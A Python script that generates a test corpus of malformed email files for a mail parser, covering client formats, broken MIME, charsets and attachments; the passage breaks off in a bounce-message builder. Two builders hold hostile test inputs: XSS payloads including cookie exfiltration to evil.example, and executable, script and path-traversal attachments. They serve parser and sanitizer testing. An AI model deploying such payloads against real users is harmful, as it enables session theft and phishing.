"""Writes the malformed-mail corpus (``*.eml`` beside this file), deterministically.

Every mail here was written for Zhongtai, shaped after what the named clients send (header
order, MIME layout, charsets, quoting); none is copied from another project. Run it again
after changing a builder: ``python tests/channels/mail_corpus/make_corpus.py``; the test
table in ``tests/channels/test_mail_parser.py`` says what each file must become.
"""

# ruff: noqa: E501, W291, T201 — raw mail lines are as long as the clients write them

from __future__ import annotations

import base64
import quopri
import random
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).parent
BUILDERS: dict[str, Callable[[], bytes]] = {}


def corpus(name: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(builder: Callable[[], bytes]) -> Callable[[], bytes]:
        BUILDERS[name] = builder
        return builder

    return register


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data)


def ew(text: str, charset: str = "utf-8") -> str:
    """One B encoded word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def crlf(data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def tiny_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def tnef_stream() -> bytes:
    """A small winmail.dat: a message body and two attached files."""

    def attr(level: int, name: int, kind: int, data: bytes) -> bytes:
        head = struct.pack("<BHHI", level, name, kind, len(data))
        return head + data + struct.pack("<H", sum(data) & 0xFFFF)

    out = struct.pack("<IH", 0x223E9F78, 0x0001)
    out += attr(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))  # TNEF version
    out += attr(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))  # OEM code page
    out += attr(1, 0x8008, 0x0007, b"IPM.Microsoft Mail.Note\x00")  # message class
    body = b"Hello support,\r\n\r\nThe error log and the quote are attached.\r\n\r\nBest,\r\nMark"
    out += attr(1, 0x800C, 0x0002, body)
    for name, data in (
        (b"error-log.txt", b"2024-06-03 10:00 E42 fuser overheat\r\n"),
        (b"quote.pdf", PDF),
    ):
        out += attr(2, 0x9002, 0x0006, b"\x01\x00\xff\xff\xff\xff\x00\x00\x00\x00\x00\x00\x00\x00")
        out += attr(2, 0x8010, 0x0001, name + b"\x00")
        out += attr(2, 0x800F, 0x0006, data)
    return out


HEAD = """Return-Path: <{sender}>
Received: from mx.example.net (mx.example.net [203.0.113.5])
\tby mail.zt.example with ESMTPS id 4Wx
\tfor <support@zt.example>; Mon, 3 Jun 2024 10:00:05 +0800
"""


# --- Ordinary clients ----------------------------------------------------------------------


@corpus("gmail_reply_quoted")
def gmail_reply_quoted() -> bytes:
    plain = (
        "Thanks, the printer works again after the firmware update.\n\n"
        "On Mon, Jun 3, 2024 at 9:12 AM Zhongtai Support <support@zt.example>\n"
        "wrote:\n\n> Please update the firmware to 2.4 and restart.\n>\n> Regards\n"
    )
    html = (
        '<div dir="ltr">Thanks, the printer works again after the firmware update.</div><br>'
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Jun 3, 2024 at 9:12'
        " AM Zhongtai Support &lt;support@zt.example&gt; wrote:<br></div>"
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">Please update the'
        " firmware to 2.4 and restart.<br><br>Regards</blockquote></div>\n"
    )
    return (
        HEAD.format(sender="anna.lee@gmail.com")
        + f"""MIME-Version: 1.0
References: <t.1-7-abc.1@zt.example>
In-Reply-To: <t.1-7-abc.1@zt.example>
From: Anna Lee <Anna.Lee@gmail.com>
Date: Mon, 3 Jun 2024 10:00:01 +0800
Message-ID: <CAF3x+1Yq2=gm@mail.gmail.com>
Subject: Re: [SH-000007] Printer shows E42
To: Zhongtai Support <support@zt.example>
Content-Type: multipart/alternative; boundary="000000000000a1b2c3"

--000000000000a1b2c3
Content-Type: text/plain; charset="UTF-8"

{plain}
--000000000000a1b2c3
Content-Type: text/html; charset="UTF-8"

{html}
--000000000000a1b2c3--
"""
    ).encode()


@corpus("outlook_reply_original_message")
def outlook_reply_original_message() -> bytes:
    plain = (
        "Hi team,\r\n\r\nThe replacement part arrived; the machine runs again.\r\n\r\n"
        "Kind regards\r\nTom Baker\r\n\r\n"
        "-----Original Message-----\r\nFrom: Zhongtai Support <support@zt.example>\r\n"
        "Sent: Monday, June 3, 2024 9:00 AM\r\nTo: Tom Baker <tom.baker@contoso.com>\r\n"
        "Subject: [SH-000123] Replacement part shipped\r\n\r\nThe part ships today.\r\n"
    )
    html = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style><!--'
        " p.MsoNormal {margin:0cm; font-family:Calibri} --></style></head><body lang=EN-US>"
        "<div class=WordSection1><p class=MsoNormal>Hi team,<o:p></o:p></p><p class=MsoNormal>"
        "The replacement part arrived; the machine runs again.<o:p></o:p></p></div></body></html>"
    )
    return crlf(
        (
            HEAD.format(sender="tom.baker@contoso.com")
            + f"""From: Tom Baker <tom.baker@contoso.com>
To: "support@zt.example" <support@zt.example>
Subject: RE: [SH-000123] Replacement part shipped
Thread-Topic: [SH-000123] Replacement part shipped
Thread-Index: AQHa1Rz3m2x4c5d6e7f8g9h0
Date: Mon, 3 Jun 2024 02:30:00 +0000
Message-ID: <DB9PR01MB1234ABCD@DB9PR01MB1234.eurprd01.prod.outlook.com>
In-Reply-To: <t.1-123-xyz.2@zt.example>
Content-Language: en-US
X-MS-Has-Attach:
Content-Type: multipart/alternative;
\tboundary="_000_DB9PR01MB1234ABCD_"
MIME-Version: 1.0

--_000_DB9PR01MB1234ABCD_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{quopri.encodestring(plain.encode()).decode()}
--_000_DB9PR01MB1234ABCD_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{quopri.encodestring(html.encode()).decode()}
--_000_DB9PR01MB1234ABCD_--
"""
        ).encode()
    )


@corpus("outlook_chinese_reply_header_block")
def outlook_chinese_reply_header_block() -> bytes:
    plain = (
        "王工，您好：\r\n\r\n问题已经解决，谢谢！\r\n\r\n"
        "________________________________\r\n发件人: 中台客服 <support@zt.example>\r\n"
        "发送时间: 2024年6月3日 9:00\r\n收件人: 李明 <liming@contoso.cn>\r\n"
        "主题: [SH-000124] 扫描仪无法连接\r\n\r\n请重启设备后再试。\r\n"
    )
    return crlf(
        (
            HEAD.format(sender="liming@contoso.cn")
            + f"""From: =?gb2312?B?{base64.b64encode("李明".encode("gbk")).decode()}?= <liming@contoso.cn>
To: =?gb2312?B?{base64.b64encode("中台客服".encode("gbk")).decode()}?= <support@zt.example>
Subject: =?gb2312?B?{base64.b64encode("答复: [SH-000124] 扫描仪无法连接".encode("gbk")).decode()}?=
Date: Mon, 3 Jun 2024 10:05:00 +0800
Message-ID: <SG2PR06MB5555@SG2PR06MB5555.apcprd06.prod.outlook.com>
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64(plain.encode("gbk")).decode()}"""
        ).encode()
    )


@corpus("qq_mail_reply_gb18030")
def qq_mail_reply_gb18030() -> bytes:
    plain = (
        "好的，我明天上午在公司，请安排工程师上门。\n\n"
        "------------------&nbsp;原始邮件&nbsp;------------------\n".replace("&nbsp;", " ")
        + '发件人: "中台客服"<support@zt.example>;\n发送时间: 2024年6月3日(星期一) 上午9:00\n'
        + '收件人: "张伟"<10001@qq.com>;\n主题: [SH-000042] 设备无法开机\n\n请问您什么时间方便？\n'
    )
    html = (
        "<div>好的，我明天上午在公司，请安排工程师上门。</div><div><br></div>"
        '<div style="font-size: 12px;font-family: Arial Narrow;padding:2px 0 2px 0;">'
        "------------------&nbsp;原始邮件&nbsp;------------------</div>"
        '<div><b>发件人:</b>&nbsp;"中台客服"&lt;support@zt.example&gt;;</div>'
    )
    name = ew("张伟", "gb18030")
    return (
        HEAD.format(sender="10001@qq.com")
        + f"""X-QQ-mid: bizesmtp9t1717380000t1a2b3c
X-QQ-SSF: 00400000000000F0
From: "{name}" <10001@qq.com>
To: "=?gb18030?B?1tDMqL/Nt/4=?=" <support@zt.example>
Subject: =?gb18030?B?{base64.b64encode("回复：[SH-000042] 设备无法开机".encode("gb18030")).decode()}?=
Mime-Version: 1.0
Content-Type: multipart/alternative;
\tboundary="----=_NextPart_665D2B50_0A1B2C3D_4E5F6A7B"
Content-Transfer-Encoding: 8Bit
Date: Mon, 3 Jun 2024 10:10:00 +0800
X-Priority: 3
Message-ID: <tencent_1A2B3C4D5E6F@qq.com>
X-QQ-MIME: TCMime 1.0 by Tencent
X-Mailer: QQMail 2.x

This is a multi-part message in MIME format.

------=_NextPart_665D2B50_0A1B2C3D_4E5F6A7B
Content-Type: text/plain;
\tcharset="gb18030"
Content-Transfer-Encoding: base64

{b64(plain.encode("gb18030")).decode()}
------=_NextPart_665D2B50_0A1B2C3D_4E5F6A7B
Content-Type: text/html;
\tcharset="gb18030"
Content-Transfer-Encoding: base64

{b64(html.encode("gb18030")).decode()}
------=_NextPart_665D2B50_0A1B2C3D_4E5F6A7B--
"""
    ).encode()


@corpus("foxmail_gbk_labelled_gb2312")
def foxmail_gbk_labelled_gb2312() -> bytes:
    # 镕 and 喆 are in GBK but not in GB2312: Foxmail labels such text gb2312 all the same.
    plain = (
        "朱镕先生已确认，喆总下周到现场验收。\r\n\r\n"
        "发件人：中台客服\r\n发送时间：2024-06-03 09:00\r\n收件人：朱镕\r\n主题：验收安排\r\n\r\n旧内容\r\n"
    )
    return crlf(
        (
            HEAD.format(sender="zhurong@example.cn")
            + """From: "zhurong" <zhurong@example.cn>
To: "support" <support@zt.example>
Subject: =?gb2312?B?0enK1bCyxcU=?=
Date: Mon, 3 Jun 2024 10:20:00 +0800
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Message-ID: <202406031020001234567@example.cn>
Content-Type: text/plain;
\tcharset="gb2312"
Content-Transfer-Encoding: base64

"""
            + b64(plain.encode("gbk")).decode()
        ).encode()
    )


@corpus("netease_163_html_only")
def netease_163_html_only() -> bytes:
    html = (
        '<div style="line-height:1.7;color:#000000;font-size:14px;font-family:Arial">'
        "<div>发票已经收到，谢谢。</div><br>"
        '<div style="position:relative;zoom:1"><div>--<br>王芳</div></div>'
        '<div id="divNeteaseMailCard"></div><br><pre><br>在 2024-06-03 09:00:00，"中台客服"'
        ' &lt;support@zt.example&gt; 写道：<br></pre><blockquote id="isReplyContent" style='
        '"PADDING-LEFT: 1ex; MARGIN: 0px 0px 0px 0.8ex; BORDER-LEFT: #ccc 1px solid">'
        "发票已寄出，请查收。</blockquote></div>"
    )
    return (
        HEAD.format(sender="wangfang@163.com")
        + f"""Date: Mon, 3 Jun 2024 10:30:00 +0800 (CST)
From: =?UTF-8?B?546L6Iqz?= <wangfang@163.com>
To: =?UTF-8?B?5Lit5Y+w5a6i5pyN?= <support@zt.example>
Subject: =?UTF-8?B?{base64.b64encode("Re:[SH-000050] 发票".encode()).decode()}?=
X-Priority: 3
X-Mailer: Coremail Webmail Server Version XT5.0.14 build 20230109(dcb5de15)
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: base64
MIME-Version: 1.0
Message-ID: <1a2b3c4d.5e6f.18fdc0a0b1c.Coremail.wangfang@163.com>
X-Coremail-Locale: zh_CN

{b64(html.encode()).decode()}"""
    ).encode()


@corpus("apple_mail_inline_image")
def apple_mail_inline_image() -> bytes:
    png = b64(tiny_png()).decode()
    return (
        HEAD.format(sender="sam@icloud.com")
        + f"""From: Sam Ortiz <sam@icloud.com>
Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_6E0F1A2B-3C4D-5E6F-7A8B-9C0D1E2F3A4B"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))
Subject: Screen shows a red light
Message-Id: <7F3A9B2C-1D4E-4F5A-8B6C-7D8E9F0A1B2C@icloud.com>
Date: Mon, 3 Jun 2024 04:40:00 +0200
To: support@zt.example
X-Mailer: Apple Mail (2.3774.600.62)

--Apple-Mail=_6E0F1A2B-3C4D-5E6F-7A8B-9C0D1E2F3A4B
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

The panel shows a red light, photo below.

Sent from my iPad

--Apple-Mail=_6E0F1A2B-3C4D-5E6F-7A8B-9C0D1E2F3A4B
Content-Type: multipart/related;
\ttype="text/html";
\tboundary="Apple-Mail=_11223344-5566-7788-99AA-BBCCDDEEFF00"

--Apple-Mail=_11223344-5566-7788-99AA-BBCCDDEEFF00
Content-Transfer-Encoding: 7bit
Content-Type: text/html;
\tcharset=us-ascii

<html><head><meta http-equiv="content-type" content="text/html; charset=us-ascii"></head><body style="overflow-wrap: break-word;">The panel shows a red light, photo below.<div><img apple-inline="yes" id="A1" src="cid:F00D1234-ABCD@icloud.com" width="300"></div><div>Sent from my iPad</div></body></html>
--Apple-Mail=_11223344-5566-7788-99AA-BBCCDDEEFF00
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename=IMG_0042.png
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="IMG_0042.png"
Content-Id: <F00D1234-ABCD@icloud.com>

{png}
--Apple-Mail=_11223344-5566-7788-99AA-BBCCDDEEFF00--

--Apple-Mail=_6E0F1A2B-3C4D-5E6F-7A8B-9C0D1E2F3A4B--
"""
    ).encode()


@corpus("nested_mixed_alternative_related")
def nested_mixed_alternative_related() -> bytes:
    png = b64(tiny_png()).decode()
    pdf = b64(PDF).decode()
    return (
        HEAD.format(sender="ops@fabrikam.com")
        + f"""From: Fabrikam Ops <ops@fabrikam.com>
To: support@zt.example
Cc: Lee Chen <Lee.Chen@Fabrikam.com>, "Ops, Night" <night@fabrikam.com>
Subject: Monthly maintenance report
Date: Mon, 03 Jun 2024 10:45:00 +0800
Message-ID: <report-2024-06@fabrikam.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mix"

--mix
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Report attached. Chart inline in the HTML version.
--alt
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8

<p>Report attached.</p><p><img src="cid:chart-1@fabrikam.com" alt="chart"></p>
--rel
Content-Type: image/png
Content-Transfer-Encoding: base64
Content-ID: <chart-1@fabrikam.com>

{png}
--rel--
--alt--
--mix
Content-Type: application/pdf; name="report-2024-05.pdf"
Content-Disposition: attachment; filename="report-2024-05.pdf"
Content-Transfer-Encoding: base64

{pdf}
--mix--
"""
    ).encode()


@corpus("signature_dashes")
def signature_dashes() -> bytes:
    return (
        HEAD.format(sender="kim@example.org")
        + """From: Kim <kim@example.org>
To: support@zt.example
Subject: Password reset link expired
Date: Mon, 3 Jun 2024 11:00:00 +0900
Message-ID: <sig-1@example.org>
Content-Type: text/plain; charset=utf-8; format=flowed

The reset link says it expired although I clicked it at once.

-- 
Kim Park | Example Org
+82 2 1234 5678
"""
    ).encode()


@corpus("forwarded_message_attached")
def forwarded_message_attached() -> bytes:
    return (
        HEAD.format(sender="boss@contoso.com")
        + """From: Boss <boss@contoso.com>
To: support@zt.example
Subject: Fwd: Complaint from a customer
Date: Mon, 3 Jun 2024 11:10:00 +0800
Message-ID: <fwd-1@contoso.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwd"

--fwd
Content-Type: text/plain; charset=utf-8

Please handle the complaint below.
--fwd
Content-Type: message/rfc822
Content-Disposition: attachment

From: Angry Customer <angry@example.net>
To: boss@contoso.com
Subject: Third time broken
Date: Sun, 2 Jun 2024 20:00:00 +0800
Message-ID: <angry-1@example.net>
Content-Type: text/plain; charset=utf-8

The machine broke for the third time this month.
--fwd--
"""
    ).encode()


# --- Broken MIME -----------------------------------------------------------------------------


@corpus("boundary_missing_close")
def boundary_missing_close() -> bytes:
    return (
        HEAD.format(sender="li@example.cn")
        + f"""From: li@example.cn
To: support@zt.example
Subject: Contract renewal
Date: Mon, 3 Jun 2024 11:20:00 +0800
Message-ID: <noclose@example.cn>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="XYZ"

--XYZ
Content-Type: text/plain; charset=utf-8

Please send the renewal quote for contract C-2023-88.
--XYZ
Content-Type: application/pdf; name="contract.pdf"
Content-Transfer-Encoding: base64

{b64(PDF).decode()}"""
    ).encode()


@corpus("boundary_not_declared")
def boundary_not_declared() -> bytes:
    return (
        HEAD.format(sender="zhao@example.cn")
        + """From: zhao@example.cn
To: support@zt.example
Subject: Router keeps rebooting
Date: Mon, 3 Jun 2024 11:30:00 +0800
Message-ID: <nobound@example.cn>
MIME-Version: 1.0
Content-Type: multipart/mixed

--=_boundary_77
Content-Type: text/plain; charset=utf-8

The router reboots every ten minutes since the update.
--=_boundary_77
Content-Type: text/plain; name="syslog.txt"
Content-Disposition: attachment; filename="syslog.txt"

kernel: watchdog timeout
--=_boundary_77--
"""
    ).encode()


@corpus("boundary_mismatch")
def boundary_mismatch() -> bytes:
    return (
        HEAD.format(sender="qian@example.cn")
        + """From: qian@example.cn
To: support@zt.example
Subject: Invoice address change
Date: Mon, 3 Jun 2024 11:40:00 +0800
Message-ID: <mismatch@example.cn>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="declared-but-unused"

--actually-used
Content-Type: text/plain; charset=utf-8

Our invoice address changed to 88 Century Avenue, Shanghai.
--actually-used
Content-Type: text/html; charset=utf-8

<p>Our invoice address changed to 88 Century Avenue, Shanghai.</p>
--actually-used--
"""
    ).encode()


@corpus("deep_nesting")
def deep_nesting() -> bytes:
    depth = 15
    body = ""
    for level in range(depth):
        body += f'Content-Type: multipart/mixed; boundary="n{level}"\n\n--n{level}\n'
    body += "Content-Type: text/plain\n\nThe bottom.\n"
    for level in reversed(range(depth)):
        body += f"--n{level}--\n"
    head = HEAD.format(sender="deep@example.com") + (
        "From: deep@example.com\nTo: support@zt.example\nSubject: Deep\n"
        "Message-ID: <deep@example.com>\nMIME-Version: 1.0\n"
    )
    return (head + body).encode()


@corpus("base64_broken_padding")
def base64_broken_padding() -> bytes:
    encoded = base64.b64encode("Die Maschine läuft wieder, danke!".encode()).decode()
    broken = encoded.rstrip("=")[:20] + "!!" + encoded.rstrip("=")[20:]
    return (
        HEAD.format(sender="jonas@example.de")
        + f"""From: Jonas <jonas@example.de>
To: support@zt.example
Subject: Maschine
Date: Mon, 3 Jun 2024 05:50:00 +0200
Message-ID: <b64@example.de>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{broken}
"""
    ).encode()


# --- Charsets ------------------------------------------------------------------------------


def _single(sender: str, subject: str, ctype: str, body: bytes, cte: str = "8bit") -> bytes:
    head = (
        HEAD.format(sender=sender)
        + f"From: {sender}\nTo: support@zt.example\nSubject: {subject}\n"
        + f"Date: Mon, 3 Jun 2024 12:00:00 +0800\nMessage-ID: <{zlib.crc32(subject.encode())}"
        + f".{sender}>\nMIME-Version: 1.0\nContent-Type: {ctype}\n"
        + f"Content-Transfer-Encoding: {cte}\n\n"
    )
    return head.encode() + body + b"\n"


@corpus("gb18030_labelled_gb2312")
def gb18030_labelled_gb2312() -> bytes:
    text = "型号𠀀的设备显示错误码E17，欧元价格€120。"
    return _single(
        "sun@example.cn",
        "Error E17",
        'text/plain; charset="gb2312"',
        b64(text.encode("gb18030")),
        "base64",
    )


@corpus("gbk_labelled_iso8859_1")
def gbk_labelled_iso8859_1() -> bytes:
    text = "您好，我们的打印机卡纸了，请尽快派人维修。谢谢！"
    return _single(
        "zhou@example.cn", "Printer jam", "text/plain; charset=iso-8859-1", text.encode("gbk")
    )


@corpus("big5_labelled_utf8")
def big5_labelled_utf8() -> bytes:
    text = "您好，我們的設備昨天出現故障，無法開機。請盡快安排工程師上門維修。"
    return _single(
        "chen@example.com.tw",
        "=?utf-8?Q?Device_down?=",
        "text/plain; charset=utf-8",
        text.encode("big5"),
    )


@corpus("gbk_unlabelled")
def gbk_unlabelled() -> bytes:
    text = "请问发票什么时候可以开出来？我们财务月底需要。"
    return _single("wu@example.cn", "Invoice", "text/plain", text.encode("gbk"))


@corpus("big5_unlabelled_raw_subject")
def big5_unlabelled_raw_subject() -> bytes:
    raw = _single(
        "lin@example.com.tw",
        "SUBJECT",
        "text/plain",
        "請問保固期限到什麼時候？謝謝。".encode("big5"),
    )
    return raw.replace(b"SUBJECT", "保固期限查詢".encode("big5"))


@corpus("utf8_labelled_gb2312")
def utf8_labelled_gb2312() -> bytes:
    text = "账号被锁定了，无法登录系统。"
    return _single("he@example.cn", "Locked", 'text/plain; charset="gb2312"', text.encode())


@corpus("latin1_western")
def latin1_western() -> bytes:
    text = "Bonjour, le problème de l'imprimante est résolu. Merci beaucoup, à bientôt."
    return _single(
        "claire@example.fr", "Imprimante", "text/plain; charset=iso-8859-1", text.encode("latin-1")
    )


@corpus("html_meta_charset_gbk")
def html_meta_charset_gbk() -> bytes:
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=gbk"></head>'
        "<body><p>空调不制冷，请派人检查。</p></body></html>"
    )
    return _single("ma@example.cn", "AC", "text/html", html.encode("gbk"))


@corpus("raw_8bit_utf8_headers")
def raw_8bit_utf8_headers() -> bytes:
    return (
        HEAD.format(sender="xu@example.cn")
        + """From: 徐静 <xu@example.cn>
To: 中台客服 <support@zt.example>
Subject: 合同续费  提醒
Date: Mon, 3 Jun 2024 12:30:00 +0800
Message-ID: <utf8hdr@example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

我们的合同下个月到期，请联系续费事宜。
"""
    ).encode()


@corpus("encoded_words_mixed")
def encoded_words_mixed() -> bytes:
    # A UTF-8 character split across two encoded words (Outlook and some Chinese clients do
    # this), a Q word, a GB2312 word and plain text in one subject.
    first = "设备".encode()
    split_a = base64.b64encode(first[:4]).decode()
    split_b = base64.b64encode(first[4:] + "报修".encode()).decode()
    subject = (
        f"=?UTF-8?B?{split_a}?=\n =?UTF-8?B?{split_b}?= =?utf-8?q?_=E2=80=94_caf=C3=A9?="
        f" and {ew('紧急', 'gb2312')}"
    )
    return (
        HEAD.format(sender="ding@example.cn")
        + f"""From: =?utf-8?q?Ding_=E4=B8=81?= <ding@example.cn>
To: support@zt.example
Subject: {subject}
Date: Mon, 3 Jun 2024 12:40:00 +0800
Message-ID: <mixed-ew@example.cn>
Content-Type: text/plain; charset=utf-8

Details follow.
"""
    ).encode()


@corpus("encoded_words_broken")
def encoded_words_broken() -> bytes:
    return (
        HEAD.format(sender="broken@example.com")
        + """From: =?x-unknown?B?Qm9i?= <broken@example.com>
To: support@zt.example
Subject: =?utf-8?B?SGVsbG8gd29ybGQ?= =?utf-8?B?not base64 at all?= =?utf-8?Q?unterminated
Date: not a date at all
Content-Type: text/plain; charset=utf-8

Body survives broken headers.
"""
    ).encode()


# --- Attachments ---------------------------------------------------------------------------


@corpus("rfc2231_filenames")
def rfc2231_filenames() -> bytes:
    quoted = quote("报价单 2024.pdf".encode())
    long_name = quote("设备维修记录表（第二季度）.xlsx".encode())
    cut = long_name.index("%", 40)  # clients split between escapes
    return (
        HEAD.format(sender="gao@example.cn")
        + f"""From: gao@example.cn
To: support@zt.example
Subject: Files
Date: Mon, 3 Jun 2024 12:50:00 +0800
Message-ID: <rfc2231@example.cn>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="f"

--f
Content-Type: text/plain; charset=utf-8

Three files attached.
--f
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''{quoted}
Content-Transfer-Encoding: base64

{b64(PDF).decode()}
--f
Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet
Content-Disposition: attachment;
 filename*0*=UTF-8''{long_name[:cut]};
 filename*1*={long_name[cut:]}
Content-Transfer-Encoding: base64

UEsDBBQAAAAIAA==
--f
Content-Type: application/msword; name="{ew("合同草案.doc", "gbk")}"
Content-Disposition: attachment; filename="{ew("合同草案.doc", "gbk")}"
Content-Transfer-Encoding: base64

0M8R4KGxGuEAAAAA
--f--
"""
    ).encode()


@corpus("zero_byte_attachment")
def zero_byte_attachment() -> bytes:
    return (
        HEAD.format(sender="empty@example.com")
        + """From: empty@example.com
To: support@zt.example
Subject: Log file
Date: Mon, 3 Jun 2024 13:00:00 +0800
Message-ID: <zero@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="z"

--z
Content-Type: text/plain; charset=utf-8

The log is attached.
--z
Content-Type: text/plain; name="app.log"
Content-Disposition: attachment; filename="app.log"
Content-Transfer-Encoding: base64


--z--
"""
    ).encode()


@corpus("oversized_attachment")
def oversized_attachment() -> bytes:
    # 96 KiB: the test parses it with a 64 KiB attachment limit (a 10 MB file in the
    # repository would cost more than it proves; a test builds one in memory too).
    data = bytes(random.Random(7).getrandbits(8) for _ in range(96 * 1024))
    return (
        HEAD.format(sender="big@example.com")
        + f"""From: big@example.com
To: support@zt.example
Subject: Video of the fault
Date: Mon, 3 Jun 2024 13:10:00 +0800
Message-ID: <big@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="o"

--o
Content-Type: text/plain; charset=utf-8

Video attached.
--o
Content-Type: video/mp4; name="fault.mp4"
Content-Disposition: attachment; filename="fault.mp4"
Content-Transfer-Encoding: base64

{b64(data).decode()}
--o--
"""
    ).encode()


@corpus("blocked_executables")
def blocked_executables() -> bytes:
    pe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" * 4
    return (
        HEAD.format(sender="phish@example.biz")
        + f"""From: Billing <phish@example.biz>
To: support@zt.example
Subject: Invoice overdue
Date: Mon, 3 Jun 2024 13:20:00 +0800
Message-ID: <exe@example.biz>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="e"

--e
Content-Type: text/plain; charset=utf-8

Open the invoice.
--e
Content-Type: application/octet-stream; name="invoice.pdf.exe"
Content-Disposition: attachment; filename="invoice.pdf.exe"
Content-Transfer-Encoding: base64

{b64(pe).decode()}
--e
Content-Type: application/pdf; name="statement.pdf"
Content-Disposition: attachment; filename="statement.pdf"
Content-Transfer-Encoding: base64

{b64(pe).decode()}
--e
Content-Type: text/javascript; name="view.js"
Content-Disposition: attachment; filename="view.js"

WScript.Shell.Run("calc")
--e
Content-Type: application/pdf; name="../../etc/passwd.pdf"
Content-Disposition: attachment; filename="../../etc/passwd.pdf"
Content-Transfer-Encoding: base64

{b64(PDF).decode()}
--e--
"""
    ).encode()


@corpus("tnef_winmail")
def tnef_winmail() -> bytes:
    return crlf(
        (
            HEAD.format(sender="mark@contoso.com")
            + f"""From: Mark <mark@contoso.com>
To: support@zt.example
Subject: Logs and quote
Date: Mon, 3 Jun 2024 13:30:00 +0800
Message-ID: <tnef-1@contoso.com>
MIME-Version: 1.0
X-MS-TNEF-Correlator: <tnef-1@contoso.com>
Content-Type: multipart/mixed; boundary="t"

--t
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Disposition: attachment; filename="winmail.dat"
Content-Transfer-Encoding: base64

{b64(tnef_stream()).decode()}
--t--
"""
        ).encode()
    )


@corpus("tnef_corrupt")
def tnef_corrupt() -> bytes:
    return (
        HEAD.format(sender="mark@contoso.com")
        + f"""From: Mark <mark@contoso.com>
To: support@zt.example
Subject: Broken winmail
Date: Mon, 3 Jun 2024 13:40:00 +0800
Message-ID: <tnef-2@contoso.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="t"

--t
Content-Type: text/plain; charset=utf-8

See the attachment.
--t
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Disposition: attachment; filename="winmail.dat"
Content-Transfer-Encoding: base64

{b64(b"this is not TNEF at all" * 4).decode()}
--t--
"""
    ).encode()


# --- HTML ----------------------------------------------------------------------------------


@corpus("html_with_scripts")
def html_with_scripts() -> bytes:
    html = """<html><head><style>body { background: url(javascript:alert(1)) }</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body onload="alert('x')"><p style="color:red" onclick="steal()">Please check my order #8812.</p>
<img src="x" onerror="alert(document.domain)"><a href="javascript:alert(1)">track</a>
<a href="https://shop.example/orders/8812">order page</a>
<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example"><input name="pw"></form>
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="><svg><script>alert(2)</script></svg>
<object data="evil.swf"></object></body></html>"""
    return _single("order@example.com", "Order 8812", "text/html; charset=utf-8", html.encode())


# --- Machines -------------------------------------------------------------------------------


@corpus("dsn_bounce")
def dsn_bounce() -> bytes:
    return b"""Return-Path: <>
Received: from mail.zt.example by mail.zt.example; Mon, 3 Jun 2024 14:00:00 +0800
From: Mail Delivery System <MAILER-DAEMON@mail.zt.example>
To: support@zt.example
Subject: Undelivered Mail Returned to Sender
Date: Mon, 3 Jun 2024 14:00:00 +0800
Message-ID: <20240603060000.ABC@mail.zt.example>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="DSN.1717394400"

--DSN.1717394400
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.zt.example.
I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@example.invalid>: host not found

--DSN.1717394400
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.zt.example
